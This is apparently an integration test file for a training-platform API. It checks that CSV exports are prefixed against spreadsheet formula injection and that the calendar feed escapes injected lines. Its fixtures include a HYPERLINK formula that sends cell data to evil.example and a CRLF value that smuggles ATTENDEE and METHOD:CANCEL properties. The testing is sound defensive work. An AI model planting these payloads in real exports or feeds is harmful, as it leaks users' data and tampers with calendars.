import { parse } from 'csv-parse/sync';
import * as ical from 'node-ical';
import { CIVIC_TECH_SEED } from '../../apps/api/src/civic-techs/catalogue-seed';
import { createTestApp, TestApp } from '../support/app';
import { createCourse } from '../support/courses';
import { enrolPair } from '../support/pairs';
import { binary, unzip } from '../support/zip';

/** Values a spreadsheet would run as formulas, written by users into every exported field. */
const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
};

/** A cell a spreadsheet runs: it starts with one of these once read back by a CSV parser. */
const RUNNABLE = /^[=+\-@\t\r]/;

/** Every cell of a CSV export, parsed with a real CSV parser. */
function cells(csv: string): string[] {
  return (parse(csv, { bom: true, relax_column_count: false }) as string[][]).flat();
}

/**
 * Injection through exports (issue 8, defects 1 and 2): hostile values go in through the
 * API, and every CSV export and the calendar feed are parsed back with real parsers.
 */
describe('exports fed with hostile values', () => {
  let ctx: TestApp;
  let admin: string;
  let cohortId: string;

  beforeAll(async () => {
    ctx = await createTestApp();
    admin = `Bearer ${await ctx.tokenFor(await ctx.factory.user({ role: 'admin' }))}`;
    cohortId = (await ctx.factory.cohort({ startsOn: '2027-03-01' })).id;
  });
  afterAll(() => ctx.close());

  it('neutralises formulas in the roster, imported from a CSV, with a download name', async () => {
    const header =
      'territory_name,territory_country,territory_level,political_name,political_email,political_position,technical_name,technical_email,technical_position';
    const line = [
      FORMULAS.plus,
      'FR',
      'municipality',
      FORMULAS.hyperlink,
      'elue@x.example',
      FORMULAS.at,
      FORMULAS.minus,
      'agent@x.example',
      FORMULAS.tab,
    ]
      .map((cell) => `"${cell.replace(/"/g, '""')}"`)
      .join(',');
    await ctx
      .http()
      .post(`/api/v1/cohorts/${cohortId}/pairs/import`)
      .set('Authorization', admin)
      .set('Content-Type', 'text/csv')
      .send(`${header}\r\n${line}\r\n`)
      .expect(200);
    const roster = await ctx
      .http()
      .get(`/api/v1/cohorts/${cohortId}/roster.csv`)
      .set('Authorization', admin)
      .expect(200);
    expect(roster.headers['content-disposition']).toBe('attachment; filename="roster.csv"');
    const read = cells(roster.text);
    expect(read.filter((cell) => RUNNABLE.test(cell))).toEqual([]);
    for (const value of [
      FORMULAS.plus,
      FORMULAS.hyperlink,
      FORMULAS.at,
      FORMULAS.minus,
      FORMULAS.tab,
    ]) {
      expect(read).toContain(`'${value}`);
    }
  });

  it('neutralises formulas in attendance notes and names', async () => {
    const { political, technical } = await ctx.factory.pairMembers();
    await ctx
      .http()
      .patch(`/api/v1/users/${political.id}`)
      .set('Authorization', admin)
      .send({ displayName: FORMULAS.at })
      .expect(200);
    const cohort = await ctx.factory.cohort({ startsOn: '2027-03-01' });
    await enrolPair(ctx, admin, cohort.id, { political, technical });
    const [session] = (
      await ctx
        .http()
        .get(`/api/v1/cohorts/${cohort.id}/sessions`)
        .set('Authorization', admin)
        .expect(200)
    ).body;
    await ctx
      .http()
      .put(`/api/v1/cohorts/${cohort.id}/sessions/${session.id}/attendance`)
      .set('Authorization', admin)
      .send({
        entries: [
          { participantId: political.id, dayIndex: 1, status: 'present', note: FORMULAS.hyperlink },
          { participantId: technical.id, dayIndex: 1, status: 'absent', note: FORMULAS.minus },
        ],
      })
      .expect(200);
    const csv = await ctx
      .http()
      .get(`/api/v1/cohorts/${cohort.id}/attendance.csv`)
      .set('Authorization', admin)
      .expect(200);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="attendance.csv"');
    const read = cells(csv.text);
    expect(read.filter((cell) => RUNNABLE.test(cell))).toEqual([]);
    expect(read).toEqual(
      expect.arrayContaining([`'${FORMULAS.hyperlink}`, `'${FORMULAS.minus}`, `'${FORMULAS.at}`]),
    );
  });

  it('neutralises formulas in every CSV of the anonymous open-data export', async () => {
    await createCourse(ctx, admin, { titleFr: FORMULAS.hyperlink, status: 'published' });
    await ctx
      .http()
      .post('/api/v1/civic-techs')
      .set('Authorization', admin)
      .send({
        ...CIVIC_TECH_SEED[0],
        slug: 'formula-test',
        name: FORMULAS.at,
        maintainer: FORMULAS.minus,
      })
      .expect(201);
    const zip = await ctx
      .http()
      .get('/api/v1/public/commons.zip')
      .buffer(true)
      .parse(binary)
      .expect(200);
    const files = await unzip(zip.body as Buffer);
    const csvs = [...files].filter(([name]) => name.endsWith('.csv'));
    expect(csvs.length).toBeGreaterThanOrEqual(5);
    for (const [name, text] of csvs) {
      expect({ name, runnable: cells(text).filter((cell) => RUNNABLE.test(cell)) }).toEqual({
        name,
        runnable: [],
      });
    }
    const all = csvs.flatMap(([, text]) => cells(text));
    expect(all).toEqual(
      expect.arrayContaining([`'${FORMULAS.hyperlink}`, `'${FORMULAS.at}`, `'${FORMULAS.minus}`]),
    );
  });

  it('escapes and folds every property of the calendar feed', async () => {
    const name = 'x\r\nATTENDEE:mailto:evil@example.org\r\nX-INJECTED:1';
    const venue = 'Salle\nMETHOD:CANCEL; a, b\\c';
    const course = await ctx.factory.course();
    const created = await ctx
      .http()
      .post('/api/v1/cohorts')
      .set('Authorization', admin)
      .send({
        courseId: course.id,
        name,
        language: 'fr',
        timeZone: 'Europe/Paris',
        venue,
        startsOn: '2027-03-01',
      })
      .expect(201);
    const link = await ctx
      .http()
      .post(`/api/v1/cohorts/${created.body.id}/calendar-link`)
      .set('Authorization', admin)
      .expect(201);
    const feed = await ctx.http().get(new URL(link.body.url).pathname).expect(200);
    const text = feed.text;
    expect(text.endsWith('\r\n')).toBe(true);
    const lines = text.split('\r\n').slice(0, -1);
    expect(lines.filter((l) => Buffer.byteLength(l) > 75)).toEqual([]);
    // Unfolded, no user-written value starts a property of its own.
    const properties = text.replace(/\r\n[ \t]/g, '').split('\r\n');
    expect(properties.filter((p) => /^(ATTENDEE|X-INJECTED|METHOD:CANCEL)/.test(p))).toEqual([]);
    const parsed = ical.sync.parseICS(text);
    const events = Object.values(parsed).filter((c) => c?.type === 'VEVENT') as ical.VEvent[];
    expect(events.length).toBeGreaterThan(0);
    for (const event of events) {
      // iCalendar text has one kind of line break: the CRLF comes back as LF.
      const title = `${name.replace(/\r\n/g, '\n')} — `;
      expect(String(event.summary).startsWith(title)).toBe(true);
      expect(String(event.location)).toBe(venue);
    }
    expect(properties).toContain(
      'X-WR-CALNAME:x\\nATTENDEE:mailto:evil@example.org\\nX-INJECTED:1',
    );
  });
});
